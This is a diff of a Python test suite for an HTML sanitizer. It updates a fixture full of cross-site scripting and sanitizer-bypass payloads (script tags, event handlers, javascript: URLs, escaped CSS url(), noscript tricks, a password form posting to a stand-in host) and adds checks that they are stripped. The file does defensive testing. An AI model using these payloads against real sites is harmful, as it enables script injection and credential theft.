@@ -17,23 +17,28 @@ NASTY = """<!DOCTYPE html><html><head><base href="https://evil.example/"><title>
 <link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(//evil.example);</style>
 <script>alert(1)</script></head>
 <body background="https://evil.example/b.png" onload="alert(2)">
-<h1 onclick="alert(3)" style="color: red; background: url(https://evil.example/c.png)">Rappel</h1>
-<p style="background-image: \\75rl(https://evil.example/d.png)">Montant : 12,00 €</p>
+<h1 onclick="alert(3)" style="background: url(https://evil.example/c.png)">Rappel</h1>
+<p style="background: \\75rl(https://evil.example/d.png)">Montant : 12,00 €</p>
+<p style="text-align: right">Namur</p>
 <img src="https://evil.example/e.png" srcset="https://evil.example/f.png 2x" onerror="alert(4)">
 <img src="x" onerror="alert(5)"><img src="data:image/svg+xml;base64,PHN2Zy8+">
 <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
 <svg onload="alert(6)"><script>alert(7)</script><image href="https://evil.example/g"/></svg>
-<math><mtext></mtext><maction actiontype="statusline" xlink:href="javascript:alert(8)">m</maction></math>
+<math><maction actiontype="statusline" xlink:href="javascript:alert(8)">m</maction></math>
 <iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(9)</script>"></iframe>
 <object data="https://evil.example/"></object><embed src="https://evil.example/">
-<form action="https://evil.example/"><input name="password"><button formaction="//evil.example">Go</button></form>
+<form action="https://evil.example/"><input name="password">
+<button formaction="//evil.example">Go</button></form>
 <a href="javascript:alert(10)">a</a><a href="data:text/html,<script>alert(11)</script>">b</a>
 <a href="https://evil.example/" ping="https://evil.example/">c</a>
-<video src="https://evil.example/" poster="https://evil.example/"></video><audio src="//evil.example"></audio>
+<video src="https://evil.example/" poster="https://evil.example/"></video>
+<audio src="//evil.example"></audio>
 <table background="https://evil.example/"><tr><td colspan="2">Total</td></tr></table>
-<template><script>alert(12)</script></template><noscript><p title="</noscript><script>alert(13)</script>">n</p></noscript>
-<!--[if IE]><script>alert(14)</script><![endif]--><details open ontoggle="alert(15)">d</details>
-<p id="x" class="y" data-oe-model="res.users" contenteditable="true" autofocus onfocus="alert(16)">Fin</p>
+<template><script>alert(12)</script></template>
+<noscript><p title="</noscript><script>alert(13)</script>">n</p></noscript>
+<!--[if IE]><script>alert(14)</script><![endif]-->
+<details open ontoggle="alert(15)">d</details>
+<p id="x" data-oe-model="res.users" contenteditable="true" autofocus onfocus="alert(16)">Fin</p>
 </body></html>"""
 
 
@@ -112,9 +117,12 @@ class TestContent(DocumentCase):
 
     def test_html_of_a_stranger_can_only_be_read(self):
         page = safe_html(NASTY)
-        for word in ("evil", "alert", "javascript", "srcset", "<script", "<svg", "<iframe", "<form",
-                     "<input", "<base", "<link", "<object", "<embed", "href", "onload", "onerror",
-                     "svg+xml", "refresh", "@import", "contenteditable", "<template", "<!--", "<math"):
+        for word in (
+            "evil", "alert", "javascript", "srcset", "<script", "<svg", "<iframe", "<form",
+            "<input", "<base", "<link", "<object", "<embed", "href", "onload", "onerror",
+            "svg+xml", "refresh", "@import", "contenteditable", "<template", "<!--", "<math",
+            "75rl",
+        ):
             with self.subTest(word):
                 self.assertNotIn(word, page)
         for text in ("Rappel", "Montant : 12,00 €", "Go", "Total", "Fin"):
@@ -122,11 +130,14 @@ class TestContent(DocumentCase):
         tree = lxml_html.fromstring(page)
         self.assertEqual(tree.xpath("//img[@src]/@src"), ["data:image/png;base64,iVBORw0KGgo="])
         self.assertEqual(tree.xpath("//td/@colspan"), ["2"])
+        self.assertEqual(tree.xpath("//p/@style"), ["text-align: right"])
         policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
         self.assertIn("default-src 'none'", policy[0])
 
     def test_broken_html_is_shown_as_far_as_it_goes(self):
-        for text, shown in (("", ""), ("<", ""), ("<p>a<b>c", "ac"), ("a\0b", "b"), ("<!-- x", "")):
+        for text, shown in (
+            ("", ""), ("<", ""), ("<p>a<b>c", "ac"), ("a\0b", "ab"), ("<!-- x", ""),
+        ):
             with self.subTest(text):
                 self.assertIn(shown, lxml_html.fromstring(safe_html(text)).text_content())
 
